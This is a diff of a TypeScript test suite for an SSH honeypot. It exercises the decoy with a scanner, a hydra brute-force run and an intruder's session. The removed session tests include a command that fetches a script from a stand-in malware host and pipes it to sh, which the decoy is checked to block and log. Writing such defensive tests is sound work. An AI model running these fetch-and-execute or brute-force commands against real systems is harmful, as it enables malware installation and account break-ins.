@@ -1,73 +1,16 @@
-/** The SSH service against real clients and a raw one: what a scanner, a brute forcer and an intruder see. */
+/** The SSH service against real clients and a raw one: what a scanner and a brute forcer see. */
 import assert from 'node:assert/strict'
-import { execFile } from 'node:child_process'
 import { createHash, randomBytes } from 'node:crypto'
-import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
-import { connect, type Socket } from 'node:net'
-import { tmpdir } from 'node:os'
+import { readFile, writeFile } from 'node:fs/promises'
 import { join } from 'node:path'
 import { after, before, describe, test } from 'node:test'
 import constants from 'ssh2/lib/protocol/constants.js'
 import { serveDecoy, type TestDecoy, testPersona } from '../test-harness.ts'
 import { ssh } from './ssh.ts'
-import { Reader } from './wire.ts'
 
-const personas = ['centos-7', 'ubuntu-18.04', 'openwrt-19.07'] as const
-const given = { user: 'root', password: 'Yssc@2021', origin: 'given' as const }
-const settings = { login: { accounts: [given] } }
+import { client, common, given, hasKexInit, offered, old, personas, type Ran, run, settings, talk, testFolder } from './client-fixture.ts'
 
-let folder = ''
-before(async () => {
-  folder = await mkdtemp(join(tmpdir(), 'ssh-test-'))
-})
-after(() => rm(folder, { recursive: true, force: true }))
-
-interface Ran {
-  code: number
-  out: string
-  err: string
-}
-function run(program: string, args: string[], input = ''): Promise<Ran> {
-  return new Promise((resolve) => {
-    const child = execFile(program, args, { encoding: 'latin1', timeout: 15_000, maxBuffer: 8_000_000 }, (error, out, err) =>
-      resolve({ code: error ? (typeof error.code === 'number' ? error.code : 1) : 0, out, err }),
-    )
-    child.stdin?.end(input)
-  })
-}
-const common = ['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR', '-F', '/dev/null']
-const old = ['-o', 'HostKeyAlgorithms=+ssh-rsa', '-o', 'PubkeyAcceptedAlgorithms=+ssh-rsa']
-const client = (decoy: TestDecoy, command: string, more: string[] = [], input = ''): Promise<Ran> =>
-  run('sshpass', ['-p', given.password, 'ssh', ...common, ...old, ...more, '-p', String(decoy.port), 'root@127.0.0.1', command], input)
-
-/** All that a server says to `send`, until it ends or `enough` holds. */
-function talk(port: number, send: Buffer | string, enough: (bytes: Buffer) => boolean = () => false): Promise<{ bytes: Buffer; ended: boolean }> {
-  return new Promise((resolve) => {
-    let bytes = Buffer.alloc(0)
-    const socket: Socket = connect(port, '127.0.0.1', () => socket.write(send))
-    const done = (ended: boolean): void => {
-      socket.destroy()
-      resolve({ bytes, ended })
-    }
-    socket.on('data', (data) => {
-      bytes = Buffer.concat([bytes, data])
-      if (enough(bytes)) done(false)
-    })
-    socket.on('end', () => done(true))
-    socket.on('error', () => done(true))
-  })
-}
-
-/** The lists of the KEXINIT that follows the version line. */
-function offered(bytes: Buffer): string[][] {
-  const at = bytes.indexOf('\n') + 1
-  const reader = new Reader(bytes.subarray(at + 5), 17)
-  return Array.from({ length: 10 }, () => reader.list())
-}
-const hasKexInit = (bytes: Buffer): boolean => {
-  const at = bytes.indexOf('\n') + 1
-  return at > 0 && bytes.length >= at + 4 && bytes.length >= at + 4 + bytes.readUInt32BE(at)
-}
+const folder = testFolder()
 
 for (const id of personas) {
   describe(`the server of ${id}`, () => {
@@ -169,8 +112,8 @@ describe('logging in', () => {
     }
     const decoy = await serveDecoy(ssh, quick, settings)
     try {
-      await writeFile(join(folder, 'words'), ['123456', 'root', 'admin@123', given.password, 'later'].join('\n'))
-      const { out } = await run('hydra', ['-t', '2', '-f', '-l', 'root', '-P', join(folder, 'words'), '-s', String(decoy.port), '127.0.0.1', 'ssh'])
+      await writeFile(join(folder(), 'words'), ['123456', 'root', 'admin@123', given.password, 'later'].join('\n'))
+      const { out } = await run('hydra', ['-t', '2', '-f', '-l', 'root', '-P', join(folder(), 'words'), '-s', String(decoy.port), '127.0.0.1', 'ssh'])
       assert.match(out, new RegExp(`login: root\\s+password: ${given.password}`))
       const seen = decoy.of('login.attempted').filter((attempt) => attempt.method === 'password')
       assert.ok(seen.some((attempt) => attempt.password === 'admin@123' && attempt.outcome === 'refused'))
@@ -223,7 +166,7 @@ describe('logging in', () => {
   test('takes a key that the adversary put into authorized_keys, and says every other one', async () => {
     const decoy = await serveDecoy(ssh, testPersona('centos-7'), settings)
     try {
-      const key = join(folder, 'key')
+      const key = join(folder(), 'key')
       await run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key])
       const withKey = (): Promise<Ran> => run('ssh', [...common, '-o', 'BatchMode=yes', '-i', key, '-p', String(decoy.port), 'root@127.0.0.1', 'echo by key'])
       assert.notEqual((await withKey()).code, 0)
@@ -252,140 +195,6 @@ describe('logging in', () => {
     } finally {
       await decoy.close()
     }
-  })
-})
-
-describe('a session', () => {
-  let decoy: TestDecoy
-  before(async () => {
-    decoy = await serveDecoy(ssh, testPersona('centos-7'), settings)
-  })
-  after(async () => {
-    await decoy.close()
-    assert.deepEqual(decoy.faults, [])
-  })
-
-  test('answers exec with output, errors apart and the exit code, and says the command before its output', async () => {
-    const { out, err, code } = await client(decoy, 'echo good; echo bad >&2; exit 7')
-    assert.deepEqual([out, err, code], ['good\n', 'bad\n', 7])
-    const kinds = decoy.events.filter((event) => event.connection === decoy.events.at(-1)?.connection).map((event) => event.kind)
-    assert.ok(kinds.indexOf('command.executed') < kinds.indexOf('terminal.data'))
-  })
-
-  test('reads standard input of a command', async () => {
-    const bytes = randomBytes(40_000)
-    const { out } = await client(decoy, 'cat > /tmp/in; md5sum < /tmp/in', [], bytes.toString('latin1'))
-    const expected = createHash('md5')
-      .update(Buffer.from(bytes.toString('latin1')))
-      .digest('hex')
-    assert.ok(out.startsWith(expected) || out.startsWith(createHash('md5').update(bytes).digest('hex')), out)
-  })
-
-  test('captures what SFTP and SCP leave, byte for byte, and gives it back', async () => {
-    const bytes = randomBytes(150_000)
-    const file = join(folder, 'sample.bin')
-    await writeFile(file, bytes)
-    const hash = createHash('sha256').update(bytes).digest('hex')
-    const port = ['-P', String(decoy.port)]
-    const sftp = await run(
-      'sshpass',
-      ['-p', given.password, 'sftp', ...common, ...port, 'root@127.0.0.1'],
-      `put ${file} /tmp/a.bin\nls -l /tmp\nget /tmp/a.bin ${join(folder, 'a.bin')}\nmkdir /tmp/dir\nrename /tmp/a.bin /tmp/dir/b.bin\nrm /tmp/dir/b.bin\nrmdir /tmp/dir\n`,
-    )
-    assert.match(sftp.out, /150000 .* a\.bin|150000 .* \/tmp\/a\.bin/)
-    assert.deepEqual(await readFile(join(folder, 'a.bin')), bytes)
-    for (const legacy of [['-O'], []]) {
-      const up = await run('sshpass', ['-p', given.password, 'scp', ...legacy, ...common, ...port, file, 'root@127.0.0.1:/root/up.bin'])
-      assert.equal(up.code, 0, up.err)
-    }
-    const down = await run('sshpass', ['-p', given.password, 'scp', '-O', ...common, ...port, 'root@127.0.0.1:/root/up.bin', join(folder, 'down.bin')])
-    assert.equal(down.code, 0, down.err)
-    assert.deepEqual(await readFile(join(folder, 'down.bin')), bytes)
-    await decoy.until(() => decoy.of('file.uploaded').length >= 3)
-    assert.deepEqual([...new Set(decoy.of('file.uploaded').map((event) => event.file.sha256))], [hash])
-    assert.deepEqual([...new Set(decoy.of('file.uploaded').map((event) => event.method))].sort(), ['scp', 'sftp'])
-    assert.deepEqual(decoy.blobs.get(hash), bytes)
-    assert.match((await client(decoy, 'sha256sum /root/up.bin')).out, new RegExp(hash))
-  })
-
-  test('refuses every forwarding in the words of the server, and says it', async () => {
-    const direct = await client(decoy, '', ['-W', '10.1.2.3:3306'])
-    assert.match(direct.err, /administratively prohibited: open failed|stdio forwarding failed/)
-    const back = await client(decoy, 'true', ['-R', '8022:localhost:22', '-A', '-o', 'ExitOnForwardFailure=yes'])
-    assert.match(back.err, /remote port forwarding failed/)
-    const seen = decoy.of('forward.requested')
-    assert.ok(seen.some((event) => event.type === 'direct-tcpip' && event.host === '10.1.2.3' && event.port === 3306))
-    assert.ok(seen.some((event) => event.type === 'tcpip-forward' && event.port === 8022))
-  })
-
-  test('goes on through a rekey that the client asks for', async () => {
-    const { out } = await client(decoy, 'cat /bin/bash', ['-o', 'RekeyLimit=60K'])
-    assert.equal(out.length, 964_536)
-  })
-
-  test('fetches nothing and says what was to be fetched', async () => {
-    const { err, code } = await client(decoy, 'curl -s -S http://malware.example.net/x.sh | sh; wget -q http://malware.example.net/y')
-    assert.match(err, /Could not resolve host: malware\.example\.net/)
-    assert.equal(code, 4)
-    assert.deepEqual(
-      decoy
-        .of('download.requested')
-        .map((event) => event.url)
-        .slice(-2),
-      ['http://malware.example.net/x.sh', 'http://malware.example.net/y'],
-    )
-    assert.ok(decoy.of('egress.refused').some((event) => event.host === 'malware.example.net'))
-  })
-
-  test('gives a terminal: echo, editing, history, completion, Ctrl-C, and the prompt again', async () => {
-    const keys = ['ech\thello\x7f\x7fp\r', 'sleep 100\r', '\x03', '\x1b[A\x1b[A\r', 'w | grep -c pts\r', 'cat /etc/hos\t\t\t', '\x15exit 3\r']
-    const child = await new Promise<Ran>((resolve) => {
-      const process = execFile(
-        'sshpass',
-        ['-p', given.password, 'ssh', '-tt', ...common, '-p', String(decoy.port), 'root@127.0.0.1'],
-        { encoding: 'latin1', timeout: 15_000 },
-        (error, out, err) => resolve({ code: typeof error?.code === 'number' ? error.code : 0, out, err }),
-      )
-      let seen = ''
-      let next = 0
-      process.stdout?.on('data', (data: string) => {
-        seen += data
-        // each key press waits for the prompt, or for what the one before it shows
-        const ready =
-          /# $/.test(seen) ||
-          (keys[next] === '\x03' && seen.endsWith('sleep 100\r\n')) ||
-          (keys[next]?.startsWith('\x15') && /hosts\r\n.*# cat \/etc\/host$/s.test(seen))
-        if (!ready || next >= keys.length) return
-        seen = ''
-        process.stdin?.write(keys[next++] as string)
-      })
-    })
-    assert.match(child.out, /help\r\n/)
-    assert.match(child.out, /\^C\r\n/)
-    assert.match(child.out, /hostname +hosts/)
-    assert.equal(child.code, 3)
-    assert.ok(decoy.of('command.executed').some((event) => event.mode === 'shell' && event.input === 'w | grep -c pts'))
-    assert.ok(decoy.of('command.finished').some((event) => event.exitCode === 130))
-    const output = Buffer.concat(
-      decoy
-        .of('terminal.data')
-        .filter((event) => event.stream === 'output')
-        .map((event) => Buffer.from(event.data, 'base64')),
-    ).toString('latin1')
-    assert.ok(output.includes(child.out.slice(child.out.indexOf('helphelp') + 4, -20).slice(0, 200)), 'the recording holds what the client saw')
-  })
-
-  test('keeps what one session changed for the next, and over a save', async () => {
-    await client(decoy, 'echo kept > /root/mark; rm /root/anaconda-ks.cfg; useradd -m svc')
-    const { out } = await client(decoy, 'cat /root/mark; ls /root; id -u svc')
-    assert.match(out, /^kept\n/)
-    assert.ok(!out.includes('anaconda'))
-    const { openWorld } = await import('../world.ts')
-    const world = openWorld(decoy.persona, decoy.world().save())
-    assert.equal(world.files.read('/root/mark').toString(), 'kept\n')
-    assert.equal(world.files.stat('/root/anaconda-ks.cfg'), undefined)
-    assert.ok(world.users.byName('svc'))
-    assert.equal(world.save(), undefined)
   })
 })
 
